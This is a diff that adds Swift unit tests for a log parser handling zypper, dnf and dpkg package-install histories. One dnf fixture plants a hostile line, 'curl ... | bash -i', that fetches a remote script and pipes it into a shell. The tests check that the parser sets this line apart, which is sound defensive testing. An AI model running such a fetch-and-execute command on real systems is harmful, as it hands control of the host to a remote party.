@@ -125,4 +125,46 @@ import Testing
     #expect(second.events.map { $0.time == nil } == [false, false, false])
     #expect(EventDump.recognize(Array("2026-11-25 05:20:14|a|b\n".utf8), path: "x")?.name != "linux.package_log")
   }
+
+  @Test func whatPackagesScriptsPrintHidesNoChange() throws {
+    let zypper = """
+      # 2026-11-25 05:20:10 nmap-7.92-1.x86_64.rpm installed ok
+      # Additional rpm output:
+      # warning: x
+      # Updating /etc/sysconfig/y ...
+      2026-11-25 05:20:12|install|nmap|7.92-1|x86_64|root@web-1|repo-oss|abcdef|
+
+      """
+    let dump = try EventDump(zypper, path: "var/log/zypp/history")
+    #expect(dump.format == "linux.package_log" && dump.events.map { $0.text("package") } == ["nmap"])
+    #expect(name("# a script\n# of two remarks\n") != "linux.package_log")
+  }
+
+  @Test func tablesOfDnf() throws {
+    let text = """
+      2026-11-25T05:20:12+0000 DDEBUG Command: dnf install -y nmap
+      2026-11-25T05:20:13+0000 INFO ====
+       Package  Arch  Version
+      Installing:
+       nmap  x86_64 3:7.92-1.el9 appstream 5.6 M
+      curl http://203.0.113.66/x | bash -i
+      2026-11-25T05:20:14+0000 INFO Complete!
+
+      """
+    let dump = try EventDump(text, path: "var/log/dnf.log")
+    #expect(dump.format == "linux.package_log")
+    #expect(dump.events.first?.text("command") == "dnf install -y nmap")
+    // What may be an attack is told apart.
+    #expect(dump.events.last?.dataType == "text:line" && dump.events.count == 2)
+    #expect(dump.coverages.map(\.state) == [.parsed, .skipped, .parsed])
+    let dpkg = try EventDump(
+      "2026-11-25 05:20:12 install nmap:amd64 <none> 7.93\n2026-11-25 05:20:12 startup packages configure\nwhat is this\n",
+      path: "dpkg.log", format: PackageLogFormat())
+    #expect(dpkg.coverages.last?.state == .skipped)
+  }
+
+  @Test func aYearIsTakenFromTheLogsOwnTime() {
+    #expect(LogFormats.lackingOnlyTheYear.isSuperset(of: ["linux.package_log", "app.klog"]))
+    #expect(LogFormats.lackingOnlyTheYear.isSubset(of: LogFormats.readingLocalTimes))
+  }
 }
